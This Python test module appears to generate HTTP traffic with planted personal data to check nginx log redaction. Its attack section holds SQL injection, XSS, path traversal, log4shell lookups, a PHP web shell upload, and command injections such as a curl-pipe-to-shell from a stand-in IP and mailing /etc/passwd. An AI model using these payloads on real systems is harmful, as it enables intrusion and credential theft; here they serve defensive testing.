"""Requests that people and attackers send, with planted personal values, and who sends them."""

import base64
import json
import socket
import urllib.parse

SHOP = "shop.example.com"
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
WIRE_LIMIT = 1 << 20

# What is done to somebody's credential goes with it: a rule replaces the whole value.
HIDDEN = "' or 2=2--"

# What must still be seen of the others, in small letters.
EVIDENCE = ["union select", "union all select", "or 1=1", "or '1'='1", "drop table", "<script", "onerror=",
            "javascript:", "/etc/passwd", "${jndi:", "${${lower:j}ndi:", "$(curl"]


class Request:
    """What goes over the wire, and the address that it seems to come from."""

    def __init__(self, client, wire):
        self.client, self.wire = client, wire

    def announced(self):
        """With the line in front by which a proxy says where it comes from."""
        version = 6 if ":" in self.client else 4
        server = "2001:db8::" if version == 6 else "192.0.2.0"
        return f"PROXY TCP{version} {self.client} {server} 4711 80\r\n".encode() + self.wire


def send(port, data):
    """Waits for the answer, whatever it is: the request is in the log then."""
    got = 0
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        try:
            connection.sendall(data)
            while got < WIRE_LIMIT and (piece := connection.recv(65536)):
                got += len(piece)
        except ConnectionError:
            pass  # It had heard enough.


def quote(text):
    return urllib.parse.quote(text, safe="")


def encode_all(text):
    return "".join(f"%{byte:02x}" for byte in text.encode())


class Traffic:
    """Writes requests; every personal value goes through new(), which knows the name of the request."""

    def __init__(self, planted):
        self.planted, self.requests, self.name = planted, [], ""

    def new(self, kind, place):
        return self.planted.new(kind, f"{place} of request {len(self.requests)} ({self.name})")

    def address(self, place, version=4):
        return self.planted.address(f"{place} of request {len(self.requests)} ({self.name})", version)

    def send(self, target, headers=(), body=b"", method="GET", host=SHOP, agent=BROWSER, raw=None):
        lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {agent}"]
        lines += [f"{name}: {value}" for name, value in headers]
        if body:
            lines.append(f"Content-Length: {len(body)}")
        lines.append("Connection: close")
        wire = "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body
        version = 6 if len(self.requests) % 4 == 3 else 4
        self.requests.append(Request(self.address("client", version), raw if raw else wire))

    def get(self, name, target, *headers, **more):
        self.name = name
        self.send(target, headers, **more)

    def post(self, target, kind, body):
        data = body if isinstance(body, bytes) else body.encode()
        self.send(target, [("Content-Type", kind)], data, "POST")

    def form(self, target, *pairs):
        """A form; the values are planted before they are encoded."""
        body = "&".join(f"{name}={quote(value)}" for name, value in pairs)
        self.post(target, "application/x-www-form-urlencoded", body)

    # ---- What an ordinary visitor sends ------------------------------------------------------------

    def visitors(self):
        self.get("start", "/")
        self.name = "path"
        self.send(f"/users/{self.new('email', 'path')}/orders/4711")
        self.send(f"/users/{quote(self.new('email', 'path'))}/invoices/2026-11-22.pdf")
        self.send(f"/u/{encode_all(self.new('email', 'path'))};jsessionid={self.new('token', 'path')}")
        self.send(f"/reset/{self.new('jwt', 'path')}")
        self.send(f"/device/{self.new('uuid', 'path')}/state")
        self.send(f"/call/{self.new('phone', 'path')}")
        self.send(f"/pay/{self.new('card', 'path')}/{self.new('iban', 'path')}")
        self.send(f"/device/{self.new('uuid', 'path, with an attack')}'--")
        self.send(f"/pay/({self.new('card', 'path, in brackets')})/{self.new('iban', 'path, blank')}%20")
        self.send(f"/net/{self.address('path')}/{self.address('path', 6)}")
        self.query()
        self.cookies()
        self.credentials()
        self.proxies()
        self.referers()
        self.hosts()
        self.agents()
        self.odd_headers()

    def query(self):
        self.name = "query"
        for name in ("email", "user", "login", "q", "x", "user%5Bmail%5D", "e-mail", "filter[mail]"):
            self.send(f"/search?page=2&{name}={quote(self.new('email', name))}&sort=asc")
        for name in ("phone", "tel", "mobile", "contact.phone"):
            self.send(f"/search?{name}={quote(self.new('phone', name))}")
        for name, kind in (("card", "card"), ("cc_number", "card"), ("iban", "iban")):
            self.send(f"/pay?amount=12.50&{name}={self.new(kind, name)}")
        for name in ("token", "access_token", "session", "sid", "api_key", "state", "code"):
            self.send(f"/oauth/callback?{name}={self.new('token', name)}&scope=all")
        self.send(f"/oauth?id_token={self.new('jwt', 'query')}&x={self.new('jwt', 'query')}")
        self.send(f"/app?device_id={self.new('uuid', 'query')}&lat=52.5&lon=13.4")
        self.send(f"/login?user={self.new('word', 'query')}&password={self.new('word', 'query')}")
        self.send(f"/a?x={quote(quote(self.new('email', 'query, encoded twice')))}")
        self.send(f"/a?x={encode_all(encode_all(self.new('email', 'query, encoded twice')))}")
        self.send(f"/a?q=mail+me+at+{quote(self.new('email', 'query'))}+or+{self.address('query')}")
        self.send(f"/a?ip={self.address('query')}&v6={quote(self.address('query', 6))}")
        self.send(f"/a?json={quote(json.dumps({'email': self.new('email', 'JSON in query')}))}")
        self.send(f"/a?next={quote('https://x.example/?mail=' + self.new('email', 'URL in query'))}")
        self.send(f"/a?{quote(self.new('email', 'name of a parameter'))}=1&{self.new('email', 'query')}")
        self.send(f"/a?x=%ff%fe{quote(self.new('email', 'query'))}%c0%ae&y=%u0041%zz%")
        self.send(f"/a?x=\udcff\udcfe{self.new('email', 'query')}\udcc3&y=\udc80")
        self.send(f"/a?x=\"{self.new('email', 'query')}\"&y='{self.new('email', 'query')}'\\")
        self.send("/" + "long/" * 300 + f"?x={'a' * 1500}&mail={quote(self.new('email', 'query'))}")
        self.send(f"http://{self.new('word', 'URL')}:{self.new('word', 'URL')}@{SHOP}/a?x=1")
        self.send(f"/a?mail={quote(self.new('email', 'query'))}#u={self.new('email', 'fragment')}")

    def cookies(self):
        self.name = "cookies"
        self.send(
            "/account",
            [("Cookie", f"sid={self.new('token', 'cookie')}; theme=dark; "
                        f"user={quote(self.new('email', 'cookie'))}"),
             ("Cookie", f"{self.new('word', 'cookie without a name')}"),
             ("Cookie2", f'$Version="1"; cid="{self.new("uuid", "cookie")}"')],
        )
        self.send("/a", [("Cookie", "; ".join(
            f"k{number}={self.new('word', 'cookie')}" for number in range(40)))])
        self.send("/a", [("cOOkie", f"jwt={self.new('jwt', 'cookie')};phone={self.new('phone', 'cookie')}")])

    def credentials(self):
        self.name = "credentials"
        pair = f"{self.new('word', 'user of Basic')}:{self.new('word', 'password of Basic')}"
        basic = base64.b64encode(pair.encode()).decode()
        self.send("/admin", [("Authorization", f"Basic {basic}")])
        self.send("/secret/x", [("Authorization", f"Basic {basic}")])
        self.send("/api", [("Authorization", f"Bearer {self.new('jwt', 'Authorization')}")])
        self.send("/api", [("authorization", self.new("token", "Authorization without a scheme"))])
        self.send("/api", [("Authorization", f'Digest username="{self.new("word", "Digest")}", '
                                             f'realm="r", uri="/?m={self.new("email", "Digest")}"')])
        self.send("/api", [("X-Api-Key", self.new("token", "X-Api-Key")),
                           ("Proxy-Authorization", f"Basic {basic}"),
                           ("X-CSRF-Token", self.new("token", "X-CSRF-Token"))])

    def proxies(self):
        self.name = "proxies"
        for value in (
            self.address("X-Forwarded-For"),
            ", ".join(self.address("X-Forwarded-For", 6 if n % 3 == 2 else 4) for n in range(12)),
            f"{self.address('X-Forwarded-For')}:4711, [{self.address('X-Forwarded-For', 6)}]:443",
            f"unknown, {self.address('X-Forwarded-For')}, _hidden, {SHOP}, <script>alert(1)</script>",
        ):
            self.send("/a", [("X-Forwarded-For", value)])
        self.send("/a", [("X-Forwarded-For", self.address("X-Forwarded-For")),
                         ("X-Forwarded-For", self.address("second X-Forwarded-For")),
                         ("X-Real-IP", self.address("X-Real-IP")),
                         ("True-Client-IP", self.address("True-Client-IP", 6))])
        self.send("/a", [("Forwarded", f'for={self.address("Forwarded")};proto=https, '
                                       f'for="[{self.address("Forwarded", 6)}]:4711";by=_x')])
        self.send("/a", [("Via", f"1.1 {self.address('Via')}"),
                         ("Client-IP", f"{self.address('Client-IP')}' or 1=1--")])

    def referers(self):
        self.name = "referer"
        mail = quote(self.new("email", "Referer"))
        self.send("/a", [("Referer", f"https://{SHOP}/search?q={mail}")])
        self.send("/a", [("Referer", f"https://{self.new('word', 'Referer')}.blog.example.org/me"),
                         ("Origin", f"https://{self.new('word', 'Origin')}.example.org")])
        self.send("/a", [("Referer", self.new("email", "Referer that is no URL"))])
        self.send("/a", [("Referer", f"\"'><script>alert('{self.new('email', 'Referer')}')</script>")])

    def hosts(self):
        self.name = "host"
        self.send("/a", host=f"{self.new('word', 'Host')}.{SHOP}")
        self.send("/a", host=f"{self.new('word', 'Host')}.pages.example.org:8443")
        self.send("/a", host=self.address("Host"))
        self.send("/a", host=f"[{self.address('Host', 6)}]:80")
        self.send("/a", [("X-Forwarded-Host", f"{self.new('word', 'X-Forwarded-Host')}.{SHOP}")])

    def agents(self):
        self.name = "agent"
        self.send("/a", agent=f"MyApp/1.0 ({self.new('email', 'User-Agent')}; {self.address('User-Agent')})")
        self.send("/a", agent=f"{BROWSER} uid={self.new('uuid', 'User-Agent')} {self.new('word', 'User-Agent')}")
        self.send("/a", agent=f"bot (+https://bots.example.org/?owner={self.new('email', 'User-Agent')})")
        self.send("/a", agent=f"\"{self.new('email', 'User-Agent')}\\\" \t\x01\udcff")

    def odd_headers(self):
        self.name = "headers"
        self.send("/a", [("From", self.new("email", "From")), ("X-User", self.new("word", "X-User")),
                         ("X-MSISDN", self.new("phone", "X-MSISDN")),
                         ("X-Device-Id", self.new("uuid", "X-Device-Id")),
                         ("X-Anything", self.new("email", "unknown header"))])
        self.send("/a", [("X-Dup", self.new("email", "first of two")),
                         ("X-Dup", self.new("email", "second of two")),
                         ("Accept", f"text/html;x={self.new('email', 'Accept')}"),
                         ("Accept-Language", f"de, {self.new('word', 'Accept-Language')}")])
        # nginx leaves these out and writes them into its error log.
        self.send("/a", [("X_Customer_Mail", self.new("email", "header with underscores"))])
        self.send("/a", [(f"X-{self.new('email', 'name of a header')}", "1")])
        self.send("/a", [("X-Bytes", f"\udcff\udcfe {self.new('email', 'header with bytes')} \udcc0\udc80"),
                         ("X-Quote", f"\"\\{self.new('email', 'header with quotes')}\"")])

    # ---- Bodies ------------------------------------------------------------------------------------

    def bodies(self):
        self.name = "form"
        self.form("/login", ("user", self.new("word", "form")), ("pwd", self.new("word", "form")),
                  ("email", self.new("email", "form")), ("phone", self.new("phone", "form")))
        self.name = "big form"
        self.form("/api", *((f"k{number}", self.new("email", "form") + "x" * 400) for number in range(150)))
        self.name = "form that is too big"
        self.form("/small", ("mail", self.new("email", "form")), ("x", "x" * 5000))
        self.name = "JSON"
        self.post("/api", "application/json", json.dumps(
            {"customer": {"email": self.new("email", "JSON"), "card": self.new("card", "JSON")},
             "phone": self.new("phone", "JSON"), "device_id": [self.new("uuid", "JSON")]}))
        self.post("/api", "application/json", f'{{"email":"{self.new("email", "cut JSON")}"')
        self.name = "XML"
        self.post("/api", "text/xml", f"<a><mail>{self.new('email', 'XML')}</mail></a>")
        self.post("/api", "text/xml", f"<a><m>{self.new('email', 'wrong XML')}</a>")
        self.name = "text"
        self.post("/api", "text/plain", f"{self.new('email', 'text')} {self.address('text')}")
        self.post("/api", "application/octet-stream",
                  b"\x00\xff\xfe" + self.new("email", "bytes").encode() + b"\x00\x80" * 50)
        self.name = "parts"
        parts = (f'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n{self.new("email", "part")}\r\n'
                 '--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n'
                 "Content-Type: text/plain\r\n\r\n<?php system('id');\r\n--b--\r\n").encode()
        self.post("/upload", "multipart/form-data; boundary=b", parts)
        self.post("/upload", "multipart/form-data; boundary=b", parts[:-30])

    # ---- Attacks -------------------------------------------------------------------------------------

    def attacks(self):
        self.name = "SQL injection"
        for value in ("1' union select password from users--", "1' or '1'='1", "1; drop table users--",
                      "-1 union all select null,@@version,table_name from information_schema.tables#"):
            self.send(f"/item?id={quote(value)}&email={quote(self.new('email', 'beside it'))}")
        self.send("/item?id=" + quote(
            f"1' union select * from users where email='{self.new('email', 'SQL')}' or "
            f"phone='{self.new('phone', 'SQL')}' or ip='{self.address('SQL')}'--"))
        self.send(f"/login?user={quote(self.new('email', 'SQL') + chr(39) + HIDDEN)}")
        self.send("/item?id=" + quote(quote(f"1' union select '{self.new('email', 'SQL, twice')}'--")))
        self.name = "script"
        for value in ("<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>",
                      "javascript:alert(1)"):
            self.send(f"/search?q={quote(value)}&name={quote(self.new('email', 'beside it'))}")
        self.send("/search?q=" + quote(f"<script>alert('{self.new('email', 'script')}')</script>"))
        self.send("/search?q=" + quote(f"<script src=//{self.address('script')}/x.js></script>"))
        self.name = "path traversal"
        self.send(f"/download?file=../../../../etc/passwd&user={self.new('word', 'beside it')}")
        self.send(f"/static/..%2f..%2f..%2fetc/passwd?mail={self.new('email', 'beside it')}")
        self.send("/download?file=..%252f..%252fetc%252fpasswd")
        self.send(f"/download?file=/home/{self.new('email', 'file')}/.ssh/id_rsa")
        self.name = "command"
        self.send("/ping?host=" + quote(f"{self.address('command')}; cat /etc/passwd | mail "
                                        f"{self.new('email', 'command')}"))
        self.send("/ping?host=" + quote("$(curl http://198.51.100.0/x.sh|sh)"))
        self.name = "log4shell"
        lookup = "${jndi:ldap://" + self.address("lookup") + ":1389/a}"
        self.send("/a", [("X-Api-Version", lookup)], agent=lookup)
        self.send("/a?x=" + quote("${jndi:ldap://x.example.net/a}"))
        self.send("/a?x=" + quote("${${lower:j}ndi:ldap://x.example.net/" + self.new("email", "lookup") + "}"))
        self.name = "attack in a body"
        self.form("/login", ("user", self.new("email", "form") + HIDDEN),
                  ("comment", f"<script>{self.new('email', 'form')}</script>"))
        self.post("/api", "application/json", json.dumps(
            {"filter": f"1' union select '{self.new('email', 'JSON')}'--",
             "phone": self.new("phone", "JSON") + HIDDEN, "sessionid": self.new("token", "JSON"),
             "creditcard": self.new("card", "JSON") + HIDDEN}))
        self.name = "attack in other places"
        self.send("/a", [("Cookie", f"sid={self.new('token', 'cookie')}' union select 1--; m=<script>"
                                    f"{self.new('email', 'cookie')}</script>")])
        self.send("/a", [("Referer", f"https://{SHOP}/?q=<script>{self.new('email', 'Referer')}")])
        self.send("/a", [("X-Forwarded-For", f"{self.address('X-Forwarded-For')}' or 1=1 union select 2--")])
        self.send("/a", [("Authorization", f"Basic {self.new('word', 'Authorization')}' or '1'='1")])
        self.name = "scanner"
        for agent in ("sqlmap/1.7 (https://sqlmap.example.org)", "Nikto/2.5.0", "masscan/1.3", "nuclei"):
            self.send(f"/.git/config?u={quote(self.new('email', 'query'))}", agent=agent)
        for target in ("/wp-admin/setup.php", "/.env", "/phpmyadmin/", "/cgi-bin/luci/;stok=/locale"):
            self.send(target)

    # ---- What nginx itself complains about -----------------------------------------------------------

    def complaints(self):
        mail = self.new("email", "query")
        self.get("file that is missing", f"/files/{mail}/picture.png?x={self.new('email', 'query')}",
                 ("Referer", f"https://{SHOP}/?m={self.new('email', 'Referer')}"))
        self.get("upstream that is down", f"/down/{self.new('email', 'path')}?token={self.new('token', 'query')}",
                 ("Referer", f"https://{SHOP}/?m={self.new('email', 'Referer')}"))
        self.get("forbidden", f"/forbidden/{self.new('email', 'path')}",
                 ("Referer", f"https://{self.new('word', 'Referer')}.blog.example.org/"))
        for name, text in (
            ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"),
            ("no protocol", f"GET /a?m={self.new('email', 'query')} \r\n\r\n".encode()),
            ("bad method", f"{self.new('email', 'method')} /a HTTP/1.1\r\nHost: {SHOP}\r\n\r\n".encode()),
            ("mail", f"RCPT TO:<{self.new('email', 'another protocol')}>\r\n\r\n".encode()),
            ("script as method", f"<SCRIPT> /a?m={self.new('email', 'query')} HTTP/1.1\r\n\r\n".encode()),
            ("two hosts", f"GET /a?m={self.new('email', 'query')} HTTP/1.1\r\nHost: a\r\n"
                          "Host: b\r\n\r\n".encode()),
            ("bad host", f"GET /a HTTP/1.1\r\nHost: {self.new('email', 'Host')}/\\\r\n\r\n".encode()),
            ("bad length", f"POST /a?m={self.new('email', 'query')} HTTP/1.1\r\nHost: {SHOP}\r\n"
                           "Content-Length: x\r\n\r\n".encode()),
            ("long line", f"GET /{'x' * 40000}?m={self.new('email', 'query')} HTTP/1.1\r\n\r\n".encode()),
            ("long header", f"GET /a HTTP/1.1\r\nHost: {SHOP}\r\nX-Mail: {self.new('email', 'header')}"
                            f"{'x' * 40000}\r\n\r\n".encode()),
            ("old", f"GET /a?m={self.new('email', 'query')} HTTP/1.0\r\n\r\n".encode()),
            ("nothing", b"\r\n\r\n"),
        ):
            self.name = name
            self.send("", raw=text)


def all_requests(planted):
    traffic = Traffic(planted)
    traffic.visitors()
    traffic.bodies()
    traffic.attacks()
    traffic.complaints()
    return traffic.requests
